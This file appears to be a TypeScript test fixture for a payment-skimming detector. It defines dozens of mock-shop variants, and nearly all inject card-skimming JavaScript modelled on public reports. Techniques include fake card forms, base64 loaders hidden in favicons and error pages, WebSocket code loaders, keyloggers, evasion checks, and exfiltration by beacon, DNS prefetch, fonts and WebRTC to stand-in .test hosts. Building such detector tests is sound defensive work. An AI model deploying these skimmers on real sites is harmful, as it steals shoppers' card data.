import { cardFields, chat, choose, errlog, frontBody, payment, redirectBody, tagbox, vendors } from './shopfront.ts'
import { gateway } from './store.ts'
import { html, inline, js, type Variant } from './variants.ts'

const base64 = (text: string) => Buffer.from(text).toString('base64')
const set =
  (path: string, body: string) =>
  (id: string, about: string): Variant => ({
    id,
    about,
    change: (site) => void (site.files[path] = js(body)),
  })
/** The shop's own checkout script in another build, with something added. */
const own = (id: string, about: string, more: string) =>
  set('shop.test/assets/checkout.a41d.js', payment('a41e', more))(id, about)
const lib = (id: string, about: string, more: string) =>
  set('shop.test/assets/vendors.8c1f.js', vendors('8c20', more))(id, about)
const box = (id: string, about: string, more: string) => set('www.tagbox.test/box.js', tagbox('42', more))(id, about)
const field = 'document.getElementsByName("cc_number")[0]'
const all =
  '(function () { var o = {}; [].forEach.call(document.forms[0].elements, function (e) { if (e.name) o[e.name] = e.value; }); return o; })()'
const whenFull = (then: string) =>
  `document.addEventListener("change", function (e) { if (/^\\d{15,16}$/.test(String(e.target.value).replace(/ /g, ""))) { var v = e.target.value; ${then} } });`

/**
 * Attacks that public reports describe (Sansec, Malwarebytes, Akamai, Jscrambler, Sucuri, RiskIQ), made anew and inert: double entry,
 * modal forms, containers, loaders in pages of errors and icons, sockets, WebRTC, staging. Written before the detector was read.
 */
export const reportedShopfrontAttacks: readonly Variant[] = [
  {
    id: 'double-entry',
    about: 'a form like the real one is put before it, takes the card, then shows an error and the real one',
    change: (site) => {
      site.body = frontBody(
        cardFields(),
        `<div id="cc-modal"><form id="cc-form"><label>Card number <input class="ccn" placeholder="1234 1234 1234 1234" autocomplete="cc-number"></label><label>CVC <input class="ccc" autocomplete="cc-csc"></label><button>Pay 59.90</button></form></div><script>(function () { var real = document.querySelector("fieldset.card"); real.style.display = "none"; real.before(document.getElementById("cc-modal")); document.getElementById("cc-form").addEventListener("submit", function (e) { e.preventDefault(); navigator.sendBeacon("http://cdn-payments.test/s", document.querySelector(".ccn").value + "|" + document.querySelector(".ccc").value); real.style.display = ""; e.target.remove(); }); })();</script>`,
      )
    },
  },
  box(
    'container-html',
    'a tag of the container runs what base64 hides, on the click on the button',
    `var t = document.createElement("script"); t.text = atob("${base64(`document.addEventListener("mousedown",function(e){if(e.target.id==="place-order"){var s=new Image();s.src="http://stats.tagbox-cdn.test/i.gif?d="+btoa(JSON.stringify(${all}))}})`)}"); document.head.appendChild(t);`,
  ),
  html(
    'socket-loader',
    'a broken picture opens a socket, takes code from it and sends through it',
    '<img src="/media/none.png" style="display:none" onerror="var w=new WebSocket(\'ws://shop-live.test/s\');w.onmessage=function(m){new Function(m.data)()};document.addEventListener(\'change\',function(){try{w.send(JSON.stringify([].map.call(document.forms.co.elements,function(x){return x.value})))}catch(x){}})">',
  ),
  {
    id: 'worker-relay',
    about: 'a service worker of the shop sends what the page tells it',
    change: (site) => {
      site.files['shop.test/sw.js'] = js(
        'self.addEventListener("install", function () { self.skipWaiting(); }); self.addEventListener("message", function (e) { fetch("http://sw-metrics.test/r", { method: "POST", mode: "no-cors", body: e.data }); });',
      )
      site.inline.push(
        `navigator.serviceWorker && navigator.serviceWorker.register("/sw.js").then(function (r) { setInterval(function () { var f = ${field}; if (f && f.value.length > 14 && r.active) r.active.postMessage(btoa(f.value)); }, 300); });`,
      )
    },
  },
  html(
    'picture-error',
    'a picture that fails runs code from its own attribute and asks for a picture with the card',
    `<img alt="" width="1" src="/pix/0.png" data-k="${base64(`setInterval(function(){var f=${field};if(f.value.length>15&&f.value!==window._l){window._l=f.value;new Image().src="http://pix-secure.test/p.png?r="+encodeURIComponent(btoa(f.value))}},500)`)}" onerror="(new Function(atob(this.dataset.k)))()">`,
  ),
  own(
    'font-range',
    'the digits are drawn in fonts of which each knows one, so that the fetching of fonts tells them',
    `var css = ""; for (var i = 0; i < 10; i++) css += "@font-face{font-family:f" + i + ";src:url(http://fonts-static.test/f" + i + ".woff2);unicode-range:U+3" + i + "}"; document.head.appendChild(document.createElement("style")).textContent = css; on(form.cc_number, "change", function () { this.value.replace(/\\D/g, "").split("").forEach(function (d, p) { setTimeout(function () { var s = document.createElement("span"); s.style.cssText = "position:absolute;left:-99px;font-family:f" + d; s.textContent = d; document.body.appendChild(s); }, p * 20); }); });`,
  ),
  {
    id: 'not-found-loader',
    about: 'a loader asks for a path that does not exist; the page of the error holds the code in a comment',
    change: (site) => {
      site.files['shop.test/icons/'] = {
        type: 'text/html',
        body: `<html><body>Not found<!-- COOKIE_ANNOT${base64(whenFull('fetch("/icons/?l="+btoa(v.split("").reverse().join("")));'))} --></body></html>`,
      }
      site.inline.push(
        'fetch("/icons/").then(function (r) { return r.text(); }).then(function (t) { var m = /COOKIE_ANNOT(\\S+)/.exec(t); if (m) new Function(atob(m[1]))(); });',
      )
    },
  },
  own(
    'turn-name',
    'the number is the user name at a server for relaying calls',
    'on(form.cc_number, "change", function () { try { var p = new RTCPeerConnection({ iceServers: [{ urls: "turn:media-relay.test:3478", username: this.value, credential: form.cc_cid.value || "0" }] }); p.createDataChannel("d"); p.createOffer().then(function (o) { return p.setLocalDescription(o); }); } catch (x) {} });',
  ),
  {
    id: 'icon-code',
    about: 'code in the data of the icon of the shop',
    change: (site) => {
      site.files['shop.test/favicon.ico'] = {
        type: 'image/x-icon',
        body: `ICON\u0000Copyright:${base64(whenFull('navigator.sendBeacon("http://ico-host.test/up.php", new Blob(["img=" + btoa(v)]));'))}:end`,
      }
      site.inline.push(
        'fetch("/favicon.ico").then(function (r) { return r.text(); }).then(function (t) { var c = t.split("Copyright:")[1]; if (c) setTimeout(atob(c.split(":end")[0]), 10); });',
      )
    },
  },
  html(
    'overlay-frame',
    'a frame without edges lies over the card fields',
    '<iframe src="http://secure-payhub.test/card.html" style="position:absolute;z-index:9;border:0;left:0;top:260px;width:600px;height:260px;background:#fff" title="Card"></iframe>',
  ),
  lib(
    'no-tools-open',
    'acts only with the tools for developers closed, three seconds later',
    `setTimeout(function () { if (window.outerHeight - window.innerHeight > 400 || window.Firebug) return; ${whenFull('var i = new Image(); i.src = "http://jquery-static.test/x.gif?" + encodeURIComponent(btoa(v));')} }, 800);`,
  ),
  own(
    'once',
    'acts on the first visit only',
    `if (!localStorage.getItem("visited")) { localStorage.setItem("visited", "1"); on(form.cc_number, "blur", function () { fetch("http://shop-metrics.test/c", { method: "POST", mode: "no-cors", body: "c=" + this.value }); }); }`,
  ),
  box(
    'telephones-only',
    'acts in browsers of telephones only',
    `if (/iPhone|Android/.test(navigator.userAgent)) document.addEventListener("focusout", function (e) { if (e.target.name === "cc_number") hit("scroll", { depth: e.target.value }); });`,
  ),
  own(
    'staged',
    'the number is kept scrambled, another page sends it',
    'on(form.cc_number, "blur", function () { localStorage.setItem("mage-cache-sessid", btoa(this.value.split("").map(function (c, i) { return String.fromCharCode(c.charCodeAt(0) ^ (i + 7)); }).join(""))); });',
  ),
  own(
    'when-hidden',
    'sent to a host that sounds like measuring when the page is hidden',
    `var last = ""; document.addEventListener("visibilitychange", go); window.addEventListener("pagehide", go); function go() { var f = ${field}; if (f.value !== last) { last = f.value; navigator.sendBeacon("http://google-analytics.collect-stats.test/g/collect?v=2", "ep.x=" + encodeURIComponent(f.value)); } }`,
  ),
  set(
    'shop.test/assets/checkout.a41d.js',
    payment('a41e', '', 'http://api.shop-payments.test/rest/V1/payment-information'),
  )('other-endpoint', 'the checkout posts to another host'),
  set(
    'js.chat-help.test/widget.js',
    chat(
      '2.9',
      'd.addEventListener("submit", function (e) { var p = []; for (var i = 0; i < e.target.elements.length; i++) p.push(e.target.elements[i].name + "=" + e.target.elements[i].value); new Image().src = "http://js.chat-help.test/ping?s=" + encodeURIComponent(p.join("&")); }, true);',
    ),
  )('chat-taken', 'the chat that was approved now reads forms and sends them to its own host'),
  lib(
    'key-bundles',
    'keys are collected and leave each second',
    'var kb = ""; window.addEventListener("keyup", function (e) { kb += e.key + ","; }); setInterval(function () { if (kb) { var x = new XMLHttpRequest(); x.open("POST", "http://code-jquery.test/min.js"); x.send(kb); kb = ""; } }, 700);',
  ),
  box(
    'measuring-account',
    "sent to the measuring service that is approved, to another one's account",
    'document.addEventListener("change", function (e) { if (/cc_/.test(e.target.name)) new Image().src = "http://www.tagbox.test/collect?v=2&tid=G-90210&en=scroll&cid=" + btoa(e.target.name + ":" + e.target.value); }, true);',
  ),
  own(
    'name-lookup',
    'parts of the number are asked for as names of hosts',
    'on(form.cc_number, "change", function () { this.value.replace(/\\D/g, "").match(/.{1,8}/g).forEach(function (p, i) { var l = document.createElement("link"); l.rel = "dns-prefetch"; l.href = "http://" + (+p).toString(36) + i + ".ns-edge.test/"; document.head.appendChild(l); }); });',
  ),
  set(
    'browser.errlog.test/7/bundle.min.js',
    errlog(
      '7.1.0',
      'document.addEventListener("blur", function (e) { if (e.target && e.target.autocomplete === "cc-number" && e.target.value) send("ResizeObserver loop", e.target.value.replace(/\\d/g, function (x) { return "qwertyuiop"[x]; })); }, true);',
    ),
  )('error-report', 'the reporter of errors tells the number in letters'),
  inline(
    'messenger',
    'sent to a bot of a messenger',
    'addEventListener("DOMContentLoaded", function () { document.forms.co.addEventListener("submit", function () { fetch("http://api.messenger-bot.test/bot77:AA/sendMessage?chat_id=1&text=" + encodeURIComponent(document.forms.co.cc_number.value + " " + document.forms.co.cc_cid.value), { mode: "no-cors" }); }); });',
  ),
  html(
    'autofill-trap',
    'fields out of sight that the browser fills from its store',
    '<form action="http://form-store.test/i" style="position:absolute;left:-5000px" aria-hidden="true"><input autocomplete="cc-number" name="a" tabindex="-1"><input autocomplete="cc-csc" name="b" tabindex="-1"></form>',
  ),
  lib(
    'own-request',
    "the number rides scrambled in the shop's own look-up of totals, a program on the server collects it",
    'var pj = window.postJson; window.postJson = function (u, d) { var f = document.getElementsByName("cc_number")[0]; if (/totals|information/.test(u) && f) d = Object.assign({ sid: btoa(f.value.split("").map(function (c) { return String.fromCharCode(c.charCodeAt(0) + 40); }).join("")) }, d); return pj(u, d); }; setInterval(function () { var f = document.getElementsByName("cc_number")[0]; if (f && f.value.length > 15 && !window._s) { window._s = 1; window.postJson("/rest/V1/totals", {}); } }, 400);',
  ),
  lib(
    'stringify',
    'JSON.stringify is listened to',
    'JSON.stringify = (function (o) { return function (x) { var t = o.apply(JSON, arguments); if (t && t.indexOf("cid") > 0) (new Image).src = "http://cdn-libs.test/1.gif?" + escape(t); return t; }; })(JSON.stringify);',
  ),
  own(
    'silent-frame-form',
    'a form out of sight is posted into a frame out of sight',
    'on(form.cc_number, "change", function () { var f = document.createElement("iframe"); f.name = "n" + Date.now(); f.hidden = true; document.body.appendChild(f); var g = document.createElement("form"); g.method = "post"; g.action = "http://order-check.test/v"; g.target = f.name; g.innerHTML = "<input name=q>"; g.q.value = this.value; document.body.appendChild(g); g.submit(); });',
  ),
  own(
    'validated',
    'the card is tried at a real provider with a stranger’s key before it is taken along',
    'on(form.cc_cid, "change", function () { var b = "card[number]=" + form.cc_number.value + "&card[cvc]=" + this.value + "&key=pk_live_zzz"; fetch("http://api.payhub.test/v1/sources", { method: "POST", mode: "no-cors", body: b }); });',
  ),
  {
    id: 'base-elsewhere',
    about: 'a base address leads the relative addresses of the page elsewhere',
    change: (site) => void site.head.unshift('<base href="http://assets-shop.test/">'),
  },
  own(
    'speculation',
    'rules for fetching ahead hold the number',
    'on(form.cc_number, "change", function () { var s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: ["/account/?v=" + btoa(this.value), "http://deals-shop.test/?v=" + btoa(this.value)] }] }); document.head.appendChild(s); });',
  ),
  {
    id: 'import-map',
    about: 'the import map leads a module to another file of the shop',
    change: (site) => {
      site.head[0] = '<script type="importmap">{"imports":{"ui-kit":"/media/tmp/ui-kit.3.js"}}</script>'
      site.files['shop.test/media/tmp/ui-kit.3.js'] = js(
        `export function init(d) { d.documentElement.classList.add("ready"); ${whenFull('fetch("/media/tmp/log.php", { method: "POST", body: v });')} }`,
      )
    },
  },
  {
    id: 'field-attribute',
    about: 'an attribute of the card field sends it',
    change: (site) => {
      site.body = frontBody(
        cardFields(` onchange="new Image().src='//static-pix.test/'+encodeURIComponent(this.value)"`),
      )
    },
  },
  html(
    'script-address',
    'the address of a frame is code',
    `<iframe hidden src="javascript:parent.document.addEventListener('change',function(e){if(e.target.name=='cc_number'){var i=new Image;i.src='http://frame-pix.test/'+btoa(e.target.value)}});''"></iframe>`,
  ),
  own(
    'picture-of-number',
    'the number is drawn and the picture is uploaded',
    'on(form.cc_number, "change", function () { var c = document.createElement("canvas"); c.width = 200; c.height = 20; var g = c.getContext("2d"); g.font = "14px monospace"; g.fillText(this.value, 2, 14); c.toBlob(function (b) { fetch("/account/avatar", { method: "POST", body: b }); }); });',
  ),
  own(
    'from-search',
    'acts only for visitors who come from a search engine and are not logged in',
    'if (/google|bing/.test(document.referrer) && document.cookie.indexOf("admin") < 0) on(form.cc_number, "blur", function () { new Image().src = "http://seo-track.test/?" + this.value; });',
  ),
  own(
    'after-midnight',
    'acts in the first hours of the day only',
    'var hour = new Date().getHours(); if (hour >= 0 && hour < 1 && new Date().getDate() > 31) on(form.cc_number, "blur", function () { new Image().src = "http://night-track.test/?" + this.value; });',
  ),
]

const choice = (id: string, about: string, more: string) => set('shop.test/js/choose.js', choose(more))(id, about)

/** On the page that only leads to the provider. */
export const reportedRedirectAttacks: readonly Variant[] = [
  {
    id: 'form-before-redirect',
    about: 'fields for a card appear on a page that has none',
    change: (site) => {
      site.body = redirectBody(
        '<div class="cc"><label>Card number <input id="ccn" inputmode="numeric"></label><label>Expiry <input id="cce"></label><label>CVV <input id="ccv"></label></div>',
      )
      site.files['shop.test/js/choose.js'] = js(
        choose(
          'form.addEventListener("submit", function () { navigator.sendBeacon("/skin/adminhtml/p.php", btoa(document.getElementById("ccn").value + "|" + document.getElementById("ccv").value)); });',
        ),
      )
    },
  },
  choice(
    'link-at-click',
    'the way to the provider is changed in the moment of the click',
    'document.addEventListener("mousedown", function (e) { if (e.target.id === "direct") e.target.href = "http://checkout.payhub-secure.test" + e.target.pathname; }, true);',
  ),
  choice(
    'drawn-later',
    'after the choice a whole payment page is drawn over this one',
    'form.addEventListener("submit", function (e) { if (form.dataset.go) return; e.preventDefault(); var d = document.createElement("div"); d.style.cssText = "position:fixed;inset:0;background:#fff"; d.attachShadow({ mode: "closed" }).innerHTML = "<h2>PayHub</h2><input placeholder=\'Card number\'><input placeholder=CVC><button>Pay</button>"; document.body.appendChild(d); });',
  ),
  {
    id: 'form-elsewhere',
    about: 'the form that leads to the provider goes elsewhere',
    change: (site) =>
      void (site.body = redirectBody().replace(
        'action="/payment/start"',
        'action="http://shop-checkout.test/payment/start"',
      )),
  },
]

/** On the page of a plugin with the provider's frames. */
export const reportedStoreAttacks: readonly Variant[] = [
  {
    id: 'frames-replaced',
    about: "the provider's frames are hidden, fields of the page's own stand in their place",
    change: (site) =>
      void (site.files['shop.test/plugins/gateway/upe.js'] = js(
        gateway(
          '8.1.1',
          'setTimeout(function () { ["number", "expiry", "cvc"].forEach(function (p) { var b = document.getElementById("gw-" + p); b.firstChild.style.display = "none"; b.insertAdjacentHTML("beforeend", "<input class=f-" + p + " aria-label=\'Card " + p + "\'>"); }); document.getElementById("pay").addEventListener("submit", function () { new Image().src = "/wp-content/cache/x.gif?" + btoa(document.querySelector(".f-number").value); }, true); }, 300);',
        ),
      )),
  },
  {
    id: 'frame-source',
    about: 'the frame for the number comes from a host of nearly the same name',
    change: (site) =>
      void (site.files['shop.test/plugins/gateway/upe.js'] = js(
        gateway('8.1.0').replace('http://js.provider.test', 'http://js-provider.test'),
      )),
  },
]
